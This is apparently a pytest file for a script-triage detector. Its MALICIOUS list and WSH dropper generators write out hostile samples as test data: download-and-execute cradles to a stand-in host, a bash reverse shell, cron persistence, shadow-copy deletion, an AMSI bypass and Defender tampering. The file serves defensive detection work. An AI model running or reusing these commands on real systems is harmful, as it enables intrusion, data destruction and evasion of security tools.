"""script analyzer: PowerShell, JScript, VBScript, batch, shell and one-liner
samples written by the test (never run), benign scripts staying clean, and
obfuscation heuristics."""

from __future__ import annotations

import base64
import random
import time

import pytest

from mailvm.config import TriageConfig
from mailvm.triage import Triage, script
from mailvm.verdict import score_findings
from triage_helpers import art, ids


@pytest.fixture(scope="module")
def triage(tmp_path_factory) -> Triage:
    return Triage(TriageConfig(yara_rules_dir=str(tmp_path_factory.mktemp("noyara") / "absent")))


def run(triage, tmp_path, name: str, text: str | bytes):
    p = tmp_path / name
    p.write_bytes(text.encode() if isinstance(text, str) else text)
    return triage.analyze(art(p))


ENC = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://e.test/a')".encode("utf-16-le")).decode()

MALICIOUS = [
    ("update.ps1", f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {ENC}\n",
     {"script_powershell_encoded", "script_execution_policy_bypass", "script_hidden_window"}),
    ("cradle.ps1", "$c = New-Object Net.WebClient\n$s = $c.DownloadString('http://e.test/p.ps1')\nIEX $s\n",
     {"script_download", "script_dynamic_exec", "script_download_exec"}),
    ("inv.js", "var s = new ActiveXObject('WScript.Shell');\nvar x = new ActiveXObject('MSXML2.XMLHTTP');\n"
               "x.open('GET','http://e.test/a.exe',false); x.send();\ns.Run('cmd /c a.exe', 0);\n",
     {"script_wscript_shell", "script_download", "script_download_exec", "script_activex", "script_hidden_window"}),
    ("eval.js", "var p = 'YWxlcnQoMSk=';\neval(atob(p));\n", {"script_exec_encoded", "script_base64_decode"}),
    ("drop.vbs", 'Set o = CreateObject("WScript.Shell")\no.Run "mshta https://e.test/x.hta", 0\n',
     {"script_wscript_shell", "script_lolbin"}),
    ("get.bat", "@echo off\r\ncertutil -urlcache -split -f http://e.test/p.b64 p.b64\r\ncertutil -decode p.b64 p.exe\r\nstart p.exe\r\n",
     {"script_certutil"}),
    ("install.sh", "#!/bin/sh\ncurl -fsSL http://e.test/x.sh | sh\n", {"script_shell_pipe_exec"}),
    ("rs.sh", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", {"script_reverse_shell"}),
    ("bot.sh", "#!/bin/sh\ncd /tmp; wget http://e.test/bot -O bot; chmod +x bot && ./bot\n"
               "(crontab -l; echo '* * * * * /tmp/bot') | crontab -\n",
     {"script_chmod_exec", "script_persistence", "script_download"}),
    ("p.sh", "#!/bin/sh\npython3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('e.test',1))\"\n",
     {"script_oneliner"}),
    ("ransom.bat", "vssadmin delete shadows /all /quiet\r\nbcdedit /set {default} recoveryenabled no\r\n",
     {"script_shadow_delete"}),
    ("amsi.ps1", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n",
     {"script_amsi_bypass"}),
    ("def.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true\nAdd-MpPreference -ExclusionPath C:\\\n",
     {"script_defender_tamper"}),
    ("sc.ps1", "$m = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p, $t)\n",
     {"script_shellcode_loader"}),
]


@pytest.mark.parametrize("name,text,expected", MALICIOUS, ids=[m[0] for m in MALICIOUS])
def test_malicious_scripts(triage, tmp_path, name, text, expected):
    r = run(triage, tmp_path, name, text)
    assert r.kind == "script" and r.detonate
    assert expected <= set(ids(r)), r.findings
    assert r.verdict in ("suspicious", "malicious")


BENIGN = [
    ("build.sh", "#!/bin/sh\nset -e\nmkdir -p build\ncd build\ncmake ..\nmake -j4\necho done\n"),
    ("report.py", "#!/usr/bin/env python3\nimport csv, sys\n\nfor row in csv.reader(open(sys.argv[1])):\n    print(row[0])\n"),
    ("backup.ps1", "$src = 'C:\\Data'\n$dst = 'D:\\Backup'\nCopy-Item -Recurse $src $dst\nWrite-Host 'ok'\n"),
    ("menu.js", "function toggle(id) {\n  var e = document.getElementById(id);\n  e.style.display = e.style.display ? '' : 'none';\n}\n"),
    ("hello.vbs", 'MsgBox "Hello from the IT team"\n'),
    ("cleanup.bat", "@echo off\r\ndel /q %TEMP%\\*.tmp\r\necho cleaned\r\n"),
]


@pytest.mark.parametrize("name,text", BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_scripts_have_no_script_findings(triage, tmp_path, name, text):
    r = run(triage, tmp_path, name, text)
    assert r.kind == "script"
    assert not [f for f in r.findings if f.source == "triage:script"], r.findings


def test_charcode_obfuscation():
    js = "var s = String.fromCharCode(" + ",".join(str(ord(c)) for c in "new ActiveXObject('WScript.Shell').Run('calc')") + ");"
    assert "script_charcode_obfuscation" in {f.id for f in script.text_findings(js)}
    vbs = "x = " + " & ".join(f"Chr({ord(c)})" for c in "powershell -nop -w hidden -c calc.exe and more text") + "\n"
    assert "script_charcode_obfuscation" in {f.id for f in script.text_findings(vbs)}
    assert "script_charcode_obfuscation" not in {f.id for f in script.text_findings("x = Chr(65) & Chr(66)\n")}


def test_concatenation_density():
    dense = "var a = " + " + ".join(f"'{c}'" for c in "ActiveXObject WScript.Shell Run cmd calc" * 3) + ";"
    assert "script_concat_obfuscation" in {f.id for f in script.text_findings(dense)}
    sparse = ("var msg = 'Hello ' + name + '!';\n" + "// comment line that pads the file\n" * 200)
    assert "script_concat_obfuscation" not in {f.id for f in script.text_findings(sparse)}


def test_long_base64_blob_but_not_inline_images():
    blob = base64.b64encode(bytes(random.Random(1).getrandbits(8) for _ in range(3000))).decode()
    assert "script_long_base64" in {f.id for f in script.text_findings(f"var p = '{blob}';")}
    img = f'<img src="data:image/png;base64,{blob}">'
    assert "script_long_base64" not in {f.id for f in script.text_findings(img)}


def test_utf16_powershell(triage, tmp_path):
    text = f"powershell -enc {ENC}\r\n"
    r = run(triage, tmp_path, "x.ps1", b"\xff\xfe" + text.encode("utf-16-le"))
    assert "script_powershell_encoded" in ids(r)


def test_command_findings_for_a_command_line():
    found = {f.id for f in script.command_findings("C:\\Windows\\System32\\cmd.exe /c certutil -decode a.b64 a.exe", "x")}
    assert "script_certutil" in found


def test_regexes_stay_linear_on_hostile_text():
    hostile = ("powershell " + " " * 50000 + "-e" + "A" * 19 + "\n") * 20 + "curl " + "x" * 200000 + "\n" + "chmod +x " * 20000
    t0 = time.monotonic()
    script.text_findings(hostile)
    assert time.monotonic() - t0 < 10  # normally well under a second


# -- false positives on ordinary programs (issue 10 item 3) -----------------------------------


@pytest.mark.parametrize("text", [
    "import base64\ndef decode(s):\n    return base64.b64decode(s)\n",           # a codec module
    "def run_once(self):\n    self.loop.run_once', 0)\n",                         # .run_once(..., 0) is no .Run
    "code = compile(src, 'x', 'exec')\nexec(code, ns)\n",                         # a debugger's eval
    "ssh-copy-id adds the key to ~/.ssh/authorized_keys\n",                        # an admin tool
    "wget https://ftp.gnu.org/gnu/gettext/gettext-0.21.tar.gz\n",                  # an installer downloads
])
def test_single_ordinary_capability_is_not_suspicious(text):
    found = script.text_findings(text)
    verdict, _score = score_findings(found)
    assert verdict == "clean", found


def test_python_standard_library_modules_are_clean(tmp_path):
    import glob
    import sysconfig

    stdlib = sysconfig.get_paths()["stdlib"]
    flagged = []
    for path in sorted(glob.glob(f"{stdlib}/*.py")):
        with open(path, encoding="utf-8", errors="replace") as fh:
            found = script.text_findings(fh.read())
        if score_findings(found)[0] != "clean":
            flagged.append((path, sorted({f.id for f in found if f.severity >= 4})))
    assert flagged == []


def test_weak_capabilities_together_are_suspicious_and_a_dropper_is_malicious():
    dropper = ('var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://a.example/p.exe", false); x.send();\n'
               'var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Write(x.responseBody); s.SaveToFile(p, 2);\n'
               'new ActiveXObject("WScript.Shell").Run(p, 0);\n')
    assert score_findings(script.text_findings(dropper))[0] == "malicious"
    half = ('var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", u); x.send();\n'
            'var s = new ActiveXObject("ADODB.Stream"); s.SaveToFile(p, 2);\n')
    ids = {f.id for f in script.text_findings(half)}
    assert "script_download_save" in ids and score_findings(script.text_findings(half))[0] == "suspicious"


# -- Windows Script Host droppers: obfuscation with dynamic code (issue: GandCrab .js, VBS droppers) --

def _table_js() -> str:
    """A JScript dropper in the string-table style: tables of 1-2 character fragments, small
    functions joining lookups into "ActiveXObject", "WScript.Shell", a URL, and code run by eval."""
    rnd = random.Random(7)
    words = ["WScript.Shell", "MSXML2.XMLHTTP", "ADODB.Stream", "Scripting.FileSystemObject",
             "http://a.example/x.exe", "%TEMP%\\x.exe", "this.WScript.Sleep(1000)", "ResponseBody"]
    alphabet = sorted({c for w in words for c in w})
    tables: list[list[object]] = [[] for _ in range(4)]
    where: dict[str, tuple[int, int]] = {}
    for c in alphabet:
        t = rnd.randrange(4)
        tables[t].append(rnd.randrange(100, 999))  # numbers in between, as the real tables have
        where[c] = (t, len(tables[t]))
        tables[t].append(c)
    def lit(x: object) -> str:
        return str(x) if isinstance(x, int) else '"' + str(x).replace("\\", "\\\\") + '"'

    lines = [f"var tb{i} = [{', '.join(lit(x) for x in t)}];" for i, t in enumerate(tables)]
    for n, w in enumerate(words):
        lines.append(f"function f{n}(e){{return {'+'.join(f'tb{where[c][0]}[{where[c][1]}]' for c in w)}}}")
    lines.append("var shell = new ActiveXObject(f0(1));")
    lines.append("var code = eval(f6(2) + f7(3));")
    return "\n".join(lines) + "\n"


JUNK = "#&z"
OBF_VBS = (
    'p = "' + JUNK.join('Set o = CreateObject("WScript.Shell"): o.Run "powershell -w hidden -c iex", 0') + '"\n'
    'p = Replace(p, "' + JUNK + '", "")\n'
    "Execute p\n"
)


def test_wsh_string_table_jscript_is_suspicious(triage, tmp_path):
    r = run(triage, tmp_path, "invoice.js", _table_js())
    found = ids(r)
    assert {"wsh_string_obfuscation", "wsh_computed_eval", "wsh_computed_com_object"} <= set(found), r.findings
    assert found["wsh_obfuscated_dropper"] == 6
    assert max(found[i] for i in ("wsh_string_obfuscation", "wsh_computed_eval", "wsh_computed_com_object")) <= 3
    assert r.verdict in ("suspicious", "malicious")


def test_wsh_junk_token_vbs_is_suspicious(triage, tmp_path):
    r = run(triage, tmp_path, "remit.vbs", OBF_VBS)
    found = ids(r)
    assert {"wsh_junk_token_removal", "wsh_computed_eval", "wsh_obfuscated_dropper"} <= set(found), r.findings
    assert r.verdict in ("suspicious", "malicious")


def test_wsh_hidden_com_name_and_execute_vbs_is_suspicious():
    vbs = ('Execute("Set o = CreateObject(A1)")\nv = Eval(k1())\nExecuteGlobal _\n  p1 & _\n  p2\n'
           'Function k1()\n k1 = StrReverse(q)\nEnd Function\n')
    found = {f.id: f.severity for f in script.script_findings(vbs, "remit.vbs")}
    assert found.get("wsh_obfuscated_dropper") == 5 and "wsh_computed_com_object" in found, found


@pytest.mark.parametrize("text", [
    "s = ReadAll()\nExecute s\n",                                              # dynamic code alone
    "var o = new ActiveXObject(progId);\no.Visible = true;\n",                   # a computed COM name alone
    'x = Replace(x, "\\r\\n", "")\n' + 'y = "a\\r\\nb"\n' * 12,                  # a junk token alone
])
def test_wsh_single_sign_stays_below_suspicious(text):
    for name in ("job.vbs", "job.js"):
        found = script.script_findings(text, name)
        assert score_findings(found)[0] == "clean", (name, found)
        assert "wsh_obfuscated_dropper" not in {f.id for f in found}


def test_wsh_signs_only_for_files_script_host_runs():
    js = _table_js()
    assert "wsh_obfuscated_dropper" in {f.id for f in script.script_findings(js, "a.js")}
    assert not [f for f in script.script_findings(js, "a.txt") if f.id.startswith("wsh_")]
    assert not [f for f in script.script_findings(js, "a.py") if f.id.startswith("wsh_")]
    assert script.wsh_language("a.vbs", "", "") == "vbscript"
    assert script.wsh_language("a.wsf", "", "") == "wsf"
    assert script.wsh_language("noext", "text/vbscript", "") == "vbscript"


def test_wsh_minified_node_module_is_not_a_windows_script(triage, tmp_path):
    # a minified Node module: short names, tables of small strings and lookups, Function() built
    # from strings (as template engines do) — Node runs it, Windows Script Host would not
    body = _table_js().replace("new ActiveXObject(f0(1))", "Function(f4(0))").replace("\n", ";")
    mod = '"use strict";var fs=require("fs"),path=require("path");' + body + "module.exports={f0:f0,f1:f1};\n"
    assert script.wsh_language("index.js", "application/javascript", mod) is None
    r = run(triage, tmp_path, "index.js", mod)
    assert not [f for f in r.findings if f.id.startswith("wsh_")], r.findings


ADMIN_VBS = '''Option Explicit
' Flush DNS and map the team share (IT helpdesk)
Dim sh, net, fso, re, m, user, logf
Set sh = CreateObject("WScript.Shell")
Set net = CreateObject("WScript.Network")
Set fso = CreateObject("Scripting.FileSystemObject")
user = sh.ExpandEnvironmentStrings("%USERNAME%")
sh.Run "ipconfig /flushdns", 0, True
net.MapNetworkDrive "S:", "\\\\fileserver\\team"
Set re = New RegExp
re.Pattern = "^[a-z]+$"
Set m = re.Execute(user)
Set logf = fso.OpenTextFile(sh.ExpandEnvironmentStrings("%TEMP%") & "\\map.log", 8, True)
logf.WriteLine Now & " " & Replace(user, " ", "")
logf.Close
For Each d In fso.Drives
  WScript.Echo d.DriveLetter & ": " & d.DriveType
Next
'''


def test_wsh_admin_vbs_gets_no_dropper_signs(triage, tmp_path):
    r = run(triage, tmp_path, "mapdrive.vbs", ADMIN_VBS)
    assert not [f for f in r.findings if f.id.startswith("wsh_")], r.findings
    # the WSH signs do not raise what the existing indicators already said
    assert score_findings(r.findings)[1] <= score_findings(script.text_findings(ADMIN_VBS))[1] + 1
    plain = ADMIN_VBS.replace("WScript.Shell", "WScript.Network").replace('sh.Run "ipconfig /flushdns", 0, True\n', "")
    assert score_findings(script.script_findings(plain, "mapdrive.vbs"))[0] == "clean"


def test_wsh_long_number_crunching_library_with_json_eval_is_clean():
    # a standalone JScript library (no Node or browser markers, so it counts as a WSH file): a
    # hash over number tables (long chains of numeric lookups) and the old eval-based JSON parser
    k = ", ".join(f"0x{(i * 2654435761) & 0xFFFFFFFF:08x}" for i in range(64))
    rounds = "\n".join(f"  t{i} = (h[{i % 8}] + h[{(i + 1) % 8}] + k[{i}] + w[{i % 16}] + h[{(i + 3) % 8}] + h[{(i + 5) % 8}]) | 0;"
                       for i in range(64))
    lib = (f"var k = [{k}];\nfunction block(h, w) {{\n  var t0;\n{rounds}\n  return h;\n}}\n"
           "function parseJSON(text) { return eval('(' + text + ')'); }\n") * 20
    found = script.script_findings(lib, "sha256.js")
    assert "wsh_obfuscated_dropper" not in {f.id for f in found}, found
    assert score_findings(found)[0] == "clean", found


def test_wsh_signs_stay_linear_on_hostile_text():
    hostile = ("".join(f'x=Replace(y, "t{i:05d}", "")\n' for i in range(20000)) + "a" * 300000 + "\n"
               + "x[1]+" * 40000 + "\n" + "eval(" * 20000 + "CreateObject(" * 20000)
    t0 = time.monotonic()
    script.script_findings(hostile, "h.vbs")
    assert time.monotonic() - t0 < 20  # normally about a second
